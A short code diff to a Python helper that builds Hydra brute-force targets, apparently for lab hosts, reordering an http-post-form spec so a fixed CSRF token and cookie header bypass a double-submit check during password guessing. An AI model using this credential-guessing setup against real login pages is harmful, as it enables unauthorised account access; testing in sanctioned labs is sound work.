@@ -123,8 +123,8 @@ def hydra_target(kind: str, address: str, port: int) -> list[str]:
     if kind == "http-basic":  # c1's web admin asks for basic auth on its status page
         return [f"http-get://{address}:{port}/admin/status"]
     if kind == "http-form":  # r1's form: the CSRF token is a double-submit cookie, so a fixed one passes
-        form = (f"/login:username=^USER^&password=^PASS^&csrf_token={CSRF_TOKEN}:F=Login failed:"
-                f"H=Cookie\\: csrf={CSRF_TOKEN}")
+        form = (f"/login:username=^USER^&password=^PASS^&csrf_token={CSRF_TOKEN}:H=Cookie\\: csrf={CSRF_TOKEN}"
+                ":F=Login failed")  # hydra 9.4 takes the header only before the condition
         return [f"http-post-form://{address}:{port}{form}"]
     return [f"{kind}://{address}:{port}"]
 
